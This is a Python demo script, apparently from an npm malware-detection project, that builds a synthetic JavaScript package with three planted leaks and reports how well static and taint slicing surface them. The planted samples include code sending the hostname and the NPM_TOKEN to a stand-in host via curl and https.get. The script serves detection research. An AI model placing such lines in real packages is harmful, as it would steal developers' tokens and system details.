"""How much code the scorer sees: a 10 000-line package with three planted leaks.

Run from the repository root:  python3 demos/reduction.py
"""

import random
import time

from npmslice import SliceBudget, baseline_chunks, builtin_catalog, slice_package
from npmslice.evaluation import sfr
from npmslice.ingest import PackageRef, SourceFile, SourceFileSet, count_lines

LEAKS = [
    ["function leakHost() {", "  const h = os.hostname();", "  cp.exec('curl http://c.example/' + h);", "}"],
    ["function leakEnv() {", "  const t = process.env.NPM_TOKEN;", "  https.get('http://c.example/?t=' + t);", "}"],
    ["function leakHome() {", "  const d = os.homedir();", "  fs.writeFileSync('/tmp/.x', d);", "}"],
]


def filler(name, rng, n):
    body = [f"function {name}(items) {{", "  let total = 0;"]
    while len(body) < n - 2:
        i = len(body)
        body.append(rng.choice([f"  total = total + {i};", f"  items.push(total * {i});",
                                f"  if (total > {i}) {{ total -= 1; }}"]))
    return body + ["  return total;", "}"]


def package(rng, n_files=10, per_file=1000):
    files = []
    for f in range(n_files):
        lines = list(LEAKS[f]) if f < len(LEAKS) else []
        j = 0
        while len(lines) < per_file:
            lines += filler(f"util{f}_{j}", rng, min(rng.randint(20, 60), per_file - len(lines)))
            j += 1
        text = "\n".join(lines[:per_file]) + "\n"
        files.append(SourceFile(f"lib/part{f:02d}.js", text, count_lines(text)))
    return SourceFileSet(PackageRef("big", "big", "malware"), tuple(files), "ok")


def main():
    fs = package(random.Random(7))
    total = sum(f.line_count for f in fs.files)
    catalog = builtin_catalog()
    t0 = time.perf_counter()
    res = slice_package(fs, catalog, ("static", "taint"), SliceBudget.preset("paper-fallback"))
    res.slices["baseline"] = baseline_chunks(fs)
    print(f"{total} lines in {len(fs.files)} files, sliced in {time.perf_counter() - t0:.1f}s\n")
    print(f"{'method':10} {'slices':>7} {'LOC':>7} {'share':>8} {'SFR':>7}")
    for method in ("baseline", "static", "taint"):
        slices = res.slices[method]
        loc = sum(s.loc for s in slices)
        recall = sfr(fs.files, slices, catalog).sfr
        print(f"{method:10} {len(slices):7d} {loc:7d} {100 * loc / total:7.2f}% {recall:6.1f}%")
    print("\ntaint slices:")
    for s in res.slices["taint"]:
        print(f"--- {s.sink_anchor.file}:{s.sink_anchor.line} ({s.strategy})")
        print(s.snippet)


if __name__ == "__main__":
    main()
